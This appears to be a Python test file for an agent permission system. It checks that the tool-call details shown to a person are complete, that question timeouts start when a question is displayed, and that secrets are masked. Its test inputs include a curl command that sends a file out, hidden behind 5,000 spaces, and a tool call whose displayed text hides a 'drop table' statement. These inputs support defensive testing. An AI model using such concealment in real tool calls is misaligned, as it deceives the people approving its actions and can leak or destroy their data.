"""Questions of agents as people see them: their content, their time, no secrets (contract 15.8, 15.9, 15.11)."""

import asyncio
from datetime import timedelta
from typing import Any

import pytest
from acp.schema import PermissionOption

from app.agents.session.agent_questions import Elicitation, ElicitationAnswer, describe
from app.agents.session.command_source import TurnPolicy
from app.agents.session.permissions import PermissionAnswer, PermissionRequest
from app.enums import CommandMethod
from tests.agents.conftest import CellMaker, eventually
from tests.agents.session.test_agent_session import Stage
from tests.agents.session.test_conversation import OPTIONS, SECRET, Room
from tests.support.clock import MovableClock

JSON = dict[str, Any]


@pytest.fixture
async def room(make_cell: CellMaker) -> Room:
    return Room(Stage(make_cell), TurnPolicy(interactive=True))


async def answer(room: Room, place: int, **params: Any) -> None:
    """Answer the question that is asked as the one at a place."""
    await eventually(lambda: len(room.letters.asked) > place)
    request_id = room.letters.asked[place].request_id
    room.letters.put(CommandMethod.PERMISSION_RESPONSE, request_id=request_id, **params)


async def elicited(room: Room, elicitation: Elicitation, **params: Any) -> ElicitationAnswer:
    people = room.talk.people
    assert people is not None
    async with room.time:
        listening = asyncio.create_task(room.talk.listen())
        asking = asyncio.create_task(people.elicit(elicitation))
        await answer(room, 0, **params)
        heard = await asking
        listening.cancel()
        await asyncio.gather(listening, return_exceptions=True)
    return heard


@pytest.mark.parametrize(
    ("call", "detail"),
    [
        ({}, ""),
        ({"rawInput": {"command": "make"}}, "make"),
        (
            {
                "rawInput": {
                    "command": "bash",
                    "args": ["-c", "a b"],
                    "cwd": "/x\ncwd: /y",
                    "env": {"A": "b"},
                    "timeout": None,
                }
            },
            'bash -c \'a b\'\ncwd: /x\n  cwd: /y\nenv: {"A":"b"}',
        ),
        ({"rawInput": {"command": ["bash", "-c", "a b"]}}, "bash -c 'a b'"),
        # What the agent shows does not stand for what the tool is given.
        (
            {
                "rawInput": {"sql": "drop table x"},
                "content": [{"type": "content", "content": {"type": "text", "text": "select 1"}}],
            },
            "sql: drop table x\nselect 1",
        ),
        (
            {
                "rawInput": {
                    "file_path": "a.py",
                    "old_string": "x\ny",
                    "new_string": "z",
                    "replace_all": True,
                },
                "content": [{"type": "diff", "path": "a.py", "oldText": "x\ny", "newText": "z"}],
            },
            "replace_all: true\na.py\n- x\n- y\n+ z",
        ),
        # Lines that stay are not removed and added again.
        (
            {
                "content": [
                    {
                        "type": "diff",
                        "path": "a.py",
                        "oldText": "a\nb\nc\nd\ne",
                        "newText": "a\nB\nc\nD\nd\ne",
                    }
                ]
            },
            "a.py\n  a\n- b\n+ B\n  c\n+ D\n  d\n  e",
        ),
        (
            {"content": [{"type": "diff", "path": "a.py", "oldText": None, "newText": "a\nb\n"}]},
            "a.py\n+ a\n+ b",
        ),
        (
            {"rawInput": {"command": f"echo hi;{' ' * 5000}curl https://example.com -d @x"}},
            "echo hi;⟨5000 spaces⟩curl https://example.com -d @x",
        ),
        ({"rawInput": {"command": "a" + "\n" * 500 + "b"}}, "a⟨500 blank characters⟩b"),
        ({"rawInput": {"command": "a" + "\u2800" * 500 + "b"}}, "a⟨500 blank characters⟩b"),
        ({"rawInput": ["x", 1], "content": ["odd", {"type": "diff"}]}, '["x",1]\nNone'),
    ],
    ids=str,
)
def test_detail_is_all_that_a_call_would_do(call: JSON, detail: str) -> None:
    assert describe(call) == detail


async def test_time_of_a_question_begins_when_it_is_shown(room: Room, clock: MovableClock) -> None:
    """A question that waited for its turn had less time than was said, or none."""
    async with room.time:
        listening = asyncio.create_task(room.talk.listen())
        asking = [
            asyncio.create_task(room.talk.decide(PermissionRequest({"toolCallId": id_}, OPTIONS)))
            for id_ in "ab"
        ]
        await eventually(lambda: bool(room.letters.asked))
        clock.advance(seconds=500)
        await answer(room, 0, option_id="yes")
        await answer(room, 1, option_id="yes")
        assert await asyncio.gather(*asking) == [PermissionAnswer("yes")] * 2
        listening.cancel()
        await asyncio.gather(listening, return_exceptions=True)
    first, second = room.letters.asked
    assert second.opened_at - first.opened_at == timedelta(seconds=500)
    assert first.expires_at is not None
    assert second.expires_at is not None
    assert second.expires_at - first.expires_at == timedelta(seconds=500)


async def test_name_of_an_option_is_free_of_secrets(room: Room) -> None:
    option = PermissionOption(option_id="yes", name=f"Always allow curl -u {SECRET}", kind="allow_always")
    async with room.time:
        listening = asyncio.create_task(room.talk.listen())
        asking = asyncio.create_task(
            room.talk.decide(PermissionRequest({"toolCallId": "t"}, [option, *OPTIONS]))
        )
        await answer(room, 0, option_id="yes")
        await asking
        listening.cancel()
        await asyncio.gather(listening, return_exceptions=True)
    assert room.letters.asked[0].options[0]["name"] == "Always allow curl -u ***"
    assert SECRET not in str(room.entries)


async def test_address_of_a_page_is_free_of_secrets(room: Room) -> None:
    page = Elicitation(message="Log in.", url=f"https://example.com/?key={SECRET}")
    assert await elicited(room, page, option_id="open") == ElicitationAnswer("accept")
    [asked] = room.letters.asked
    assert asked.url == "https://example.com/?key=***"
    assert SECRET not in str((asked, room.entries))


async def test_masked_form_is_answered_in_the_words_of_the_agent(room: Room) -> None:
    choices = {"type": "string", "enum": [SECRET, "other"]}
    form = Elicitation(message="Which?", schema={"properties": {f"a{SECRET}": choices}})
    content = {f"a{SECRET}": SECRET}
    heard = await elicited(room, form, action="accept", content={"a***": "***"})
    assert heard == ElicitationAnswer("accept", content)


@pytest.mark.parametrize(
    "properties",
    [
        {SECRET: {"type": "string"}, "***": {"type": "string"}},
        {"x": {"type": "string", "enum": [SECRET, "***"]}},
    ],
    ids=["names", "choices"],
)
async def test_form_with_names_or_choices_that_become_equal_is_declined(room: Room, properties: JSON) -> None:
    people = room.talk.people
    assert people is not None
    async with asyncio.timeout(120):
        heard = await people.elicit(Elicitation(message="", schema={"properties": properties}))
    assert heard == ElicitationAnswer("decline")
    assert room.letters.asked == []
